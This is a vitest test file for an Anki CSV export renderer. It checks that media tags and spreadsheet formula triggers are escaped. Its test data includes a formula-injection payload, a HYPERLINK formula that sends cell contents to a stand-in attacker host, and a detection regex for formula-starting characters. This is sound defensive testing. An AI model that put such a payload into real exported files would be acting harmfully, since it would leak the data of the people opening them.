// Guide text that Anki or a spreadsheet would act on: `[sound:…]` anywhere on a card, and fields
// that a spreadsheet would run as a formula. Read back with a CSV parser, as the tools do.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { deckName, renderAnkiCsv, renderCombinedAnkiCsv } from '../../src/render/anki-csv.js';
import { makeEntry, makePack, readAnkiCsv } from './anki-factory.js';

/** What a card shows of a field: tags gone, entities decoded. */
function shown(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&#x([0-9a-f]+);/gi, (_, n: string) => String.fromCodePoint(Number.parseInt(n, 16)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

describe('Anki media and template tags from a guide', () => {
  const parent = makeEntry({ question: '[sound:parent.mp3] Why a queue?' });
  const entry = makeEntry({
    question: '[sound:q.mp3] How?',
    prompt: '[anki:tts]prompt[/anki:tts]',
    answer: 'Because [SOUND:a.mp3].',
    keyTerms: ['[sound:k.mp3]', 'Redis'],
    section: '[sound:s.mp3] Section',
    followUpOf: parent.id,
  });
  const pack = makePack([parent, entry], { title: '[sound:t.mp3] PodScribe' });

  it('never leaves a live [sound: or [anki: in any field, whichever value it came from', () => {
    for (const csv of [renderAnkiCsv(pack), renderCombinedAnkiCsv([pack])]) {
      for (const record of readAnkiCsv(csv).records) {
        expect(record.Front).not.toMatch(/\[(sound|anki):/i);
        expect(record.Back).not.toMatch(/\[(sound|anki):/i);
      }
    }
  });

  it('still shows the brackets as written', () => {
    const back = readAnkiCsv(renderAnkiCsv(pack)).records[1]?.Back ?? '';
    expect(shown(back)).toContain('Key terms: [sound:k.mp3] · Redis');
    expect(shown(back)).toContain('[sound:t.mp3] PodScribe · [sound:s.mp3] Section');
    expect(shown(back)).toContain('Follow-up to: [sound:parent.mp3] Why a queue?');
  });
});

/** Where a spreadsheet would run a cell: its first character is one of these (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('fields a spreadsheet would run as formulas', () => {
  const questions = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+1+2 is what?',
    '-2+3 is what?',
    '@SUM(1,2) gives what?',
    '\tTabbed=1+1?',
    '\r=1+1 after a carriage return?',
  ];
  const entries = questions.map((question) => makeEntry({ question, answer: '=1+1, and -1.' }));
  const pack = makePack(entries, { title: '=Title' });
  // A template whose Back starts with guide text, as a user's edited template may.
  const backTemplate = '{{question}}: {{safeHtml answerHtml}}';

  it('starts no cell with = + - @, a tab or a carriage return, read with a CSV parser', () => {
    for (const csv of [
      renderAnkiCsv(pack, { backTemplate }),
      renderCombinedAnkiCsv([pack], { backTemplate }),
      renderCombinedAnkiCsv([pack], { backTemplate, deckRoot: '' }),
    ]) {
      const body = csv
        .split('\n')
        .filter((line) => !line.startsWith('#'))
        .join('\n');
      const cells = (parse(body, { relax_column_count: true }) as string[][]).flat();
      expect(cells.length).toBeGreaterThan(questions.length * 4 - 1);
      for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
    }
  });

  it('shows every question on its card as written', () => {
    const records = readAnkiCsv(renderAnkiCsv(pack, { backTemplate })).records;
    expect(records.map((r) => shown((r.Front ?? '').replace(/<br>/g, '\n')))).toEqual(
      questions.map((q) => q.replace(/\r/g, '\n')),
    );
    expect(shown(records[0]?.Back ?? '')).toMatch(
      /^=HYPERLINK\("http:\/\/evil.example\/\?x="&A1,"Click"\): =1\+1/,
    );
  });

  it('keeps a deck name from starting a formula when there is no top deck', () => {
    expect(deckName(pack, '')).not.toMatch(FORMULA_START);
    expect(deckName(pack, '')).toContain('=Title');
  });
});
